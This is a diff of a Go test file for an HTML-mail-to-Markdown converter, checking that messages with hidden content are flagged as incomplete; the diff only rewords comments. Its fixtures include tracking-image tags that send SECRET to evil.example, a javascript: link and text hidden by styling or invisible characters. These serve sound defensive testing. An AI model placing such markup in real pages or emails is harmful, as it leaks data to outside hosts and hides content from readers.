@@ -9,7 +9,7 @@ import (
 	"golang.org/x/net/html"
 )
 
-// plainMails are whole, each as its Markdown shows it.
+// plainMails are complete, each as its Markdown shows it.
 var plainMails = map[string]string{
 	"":                        "",
 	"<p>See you at noon.</p>": "See you at noon.",
@@ -24,7 +24,8 @@ var plainMails = map[string]string{
 	`<div dir="ltr">Yes.<div><br></div><div>Ada 👍🏽 &lt;3</div></div>`:                                                                                        "Yes.\n\nAda 👍🏽 <3",
 }
 
-// unplain are what a Markdown does not show all of; SECRET stands where it is not.
+// unplain are documents whose Markdown does not show everything. SECRET marks
+// what it lacks.
 var unplain = []string{
 	`<img src="http://evil.example/p.gif?d=SECRET">`, `<img src="http://evil.example/p.gif" alt="SECRET">`, `<img src="data:image/gif;base64,SECRET">`, `<img srcset="SECRET 2x">`, `<img src="cid:SECRET" alt="logo">`,
 	`<a href="http://evil.example/SECRET"></a>`, `<a href="http://evil.example/SECRET"><br></a>`, `<a href="http://evil.example/SECRET"> &nbsp;</a>`, `<a href="javascript:SECRET">a</a>`, `<a href="#SECRET">a</a>`, `<a name="SECRET">a</a>`,
@@ -38,9 +39,9 @@ var unplain = []string{
 	`<object data="SECRET"></object>`, `<embed src="SECRET">`, `<svg><text>SECRET</text></svg>`, `<math><mtext>SECRET</mtext></math>`, `<template>SECRET</template>`, `<noscript>SECRET</noscript>`, `<dialog>SECRET</dialog>`, `<p hidden>SECRET</p>`,
 	`<p style="display:none">SECRET</p>`, `<p style="color:white">SECRET</p>`, `<font color="#ffffff">SECRET</font>`, `<SECRET>a</SECRET>`, `</SECRET>`, `</p SECRET>`, `</p title="SECRET">`, `<p/SECRET>`, `<p title=SECRET`, `<p title="SECRET`, `<SECRET`, `</SECRET`,
 	`<table><caption>SECRET</caption><tr><th>a</th><th>b</th></tr><tr><td>c</td><td>d</td></tr></table>`, `<ol start="9SECRET"><li>a</li></ol>`, `<ol start="12345678"><li>a</li></ol>`, `<a href="http://a.example"><ol start="7"><li>a</li></ol></a>`,
-	// What says another thing than its Markdown.
+	// Documents whose meaning differs from their Markdown.
 	`<p>Do <s>not</s> pay</p>`, `<p>Do <del>not</del> pay</p>`, `<p>10<sup>5</sup></p>`, `<details><summary>a</summary>b</details>`, `<bdo dir="rtl">01</bdo>`, `<p dir="rtl">a</p>`, `<ruby>a<rt>b</rt></ruby>`,
-	// What shows nothing.
+	// Invisible characters.
 	"<p>a\u200bb\U000E0041</p>", `<p>a&#8203;b</p>`, `<p>a&amp;#8203;b</p>`, `<p>a&amp;<span>#8203;</span>b</p>`, `<p>a&am</i>p;#8203;b</p>`, "<p>a\x00b</p>", "<p>a\x01b</p>", `<p>a&shy;b</p>`, "<p>\xffa</p>",
 }
 
@@ -64,7 +65,8 @@ func TestWhatIsNotAllShownIsNotWhole(t *testing.T) {
 	}
 }
 
-// Nothing escapes by where it stands: within a tag, a word, a reference, a table.
+// Nothing goes unnoticed because of its position: within a tag, a word, a
+// reference, a table.
 func TestWhateverIsWovenIntoAPlainMailIsShownOrNotWhole(t *testing.T) {
 	random := rand.New(rand.NewPCG(1, 2))
 	documents := []string{}
@@ -93,8 +95,8 @@ func TestWhateverIsWovenIntoAPlainMailIsShownOrNotWhole(t *testing.T) {
 	}
 }
 
-// checkWhole checks that what is taken for whole shows all that a parser of its
-// own finds, and each SECRET.
+// checkWhole checks that a document taken as complete shows each SECRET and
+// everything that an independent parser finds.
 func checkWhole(t *testing.T, document string) bool {
 	t.Helper()
 	r, whole := Whole([]byte(document))
@@ -130,7 +132,7 @@ func checkWhole(t *testing.T, document string) bool {
 			says(a.Key, strings.TrimPrefix(a.Val, "mailto:"))
 		}
 	}
-	alone := strings.Count(document, `<a href="SECRET">`) // shown once where its text is its address
+	alone := strings.Count(document, `<a href="SECRET">`) // shown once if its text is its address
 	if all, seen := strings.Count(document, "SECRET"), strings.Count(r.Markdown, "SECRET"); seen < all-alone {
 		t.Fatalf("%q: of %d secrets %d are shown\n%s", document, all, seen, r.Markdown)
 	}
